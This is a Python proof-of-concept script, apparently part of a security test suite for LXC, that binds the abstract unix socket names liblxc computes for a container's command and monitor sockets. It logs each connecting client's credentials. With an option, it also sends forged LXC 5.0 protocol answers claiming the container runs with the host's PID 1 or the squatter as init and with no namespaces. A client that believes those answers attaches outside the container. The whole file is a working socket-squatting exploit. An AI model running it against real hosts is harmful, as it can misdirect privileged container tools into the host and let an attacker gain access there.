#!/usr/bin/env python3
"""squatter.py - a hostile host user standing in for liblxc's monitor (SECURITY.md case 55).

Binds, in its own (the host's) network namespace, the abstract unix socket names that liblxc derives
for a container, logs every connection with its peer's credentials (SO_PEERCRED), and with --answer
speaks LXC 5.0's command protocol with forged answers: the container runs, its init is PID (the
squatter itself, or 1), and it has no namespaces, so that a client believing it would attach to the
squatter's or the host's. Prints "ready" once every name is bound.

usage: squatter.py --log FILE [--answer self|pid1] NAME...   (NAME without the leading '@')
"""
import argparse
import os
import select
import socket
import struct
import sys

# lxc/commands.h (5.0): the commands a client of the monitor sends first
GET_STATE, GET_INIT_PID, GET_CLONE_FLAGS, GET_INIT_PIDFD = 3, 4, 5, 18
RUNNING = 2  # lxc_state_t
REQ = struct.Struct("iiQ")  # struct lxc_cmd_req: cmd, datalen, data pointer
RSP = struct.Struct("iiQ")  # struct lxc_cmd_rsp: ret, datalen, data (small answers travel in the pointer)
ENOSYS = 38


def monitor_name(lxcpath):
    """liblxc's lxc_monitor_sock_name(): "lxc/<fnv1a-64 of lxc/PATH/monitor-sock>/PATH", 105 chars at most."""
    h = 0xCBF29CE484222325
    for b in ("lxc/%s/monitor-sock" % lxcpath).encode():
        h = ((h ^ b) * 0x100000001B3) & 0xFFFFFFFFFFFFFFFF
    return ("lxc/%016x/%s" % (h, lxcpath))[:104]


def answer(conn, target):
    try:
        head = conn.recv(REQ.size)
        if len(head) < REQ.size:
            return None
        cmd, datalen, _ = REQ.unpack(head)
        if 0 < datalen < 65536:
            conn.recv(datalen)
        if cmd == GET_STATE:
            conn.sendall(RSP.pack(0, 0, RUNNING))
        elif cmd == GET_INIT_PID:
            conn.sendall(RSP.pack(0, 0, target))
        elif cmd == GET_CLONE_FLAGS:
            conn.sendall(RSP.pack(0, 0, 0))  # "no namespaces": attach would stay where it is
        elif cmd == GET_INIT_PIDFD:
            fd = os.pidfd_open(target)
            socket.send_fds(conn, [RSP.pack(0, 0, 0)], [fd])
            os.close(fd)
        else:
            conn.sendall(RSP.pack(-ENOSYS, 0, 0))
        return cmd
    except OSError:
        return None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--log", required=True)
    ap.add_argument("--answer", choices=["self", "pid1"])
    ap.add_argument("--monitor-of", action="append", default=[], help="an lxcpath: also its monitor socket")
    ap.add_argument("names", nargs="*")
    a = ap.parse_args()
    names = sorted(set(a.names + [monitor_name(p) for p in a.monitor_of]))
    target = os.getpid() if a.answer == "self" else 1
    socks = {}
    for n in names:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind("\0" + n)
        s.listen(64)
        socks[s.fileno()] = (s, n)
    log = open(a.log, "a", buffering=1)
    print("ready", flush=True)
    while True:
        ready, _, _ = select.select(list(socks), [], [])
        for fd in ready:
            s, n = socks[fd]
            conn, _ = s.accept()
            pid, uid, gid = struct.unpack("3i", conn.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
            cmd = answer(conn, target) if a.answer else None
            log.write("connection on @%s from uid %d pid %d (command %s)\n" % (n, uid, pid, cmd))
            conn.close()


if __name__ == "__main__":
    sys.exit(main())
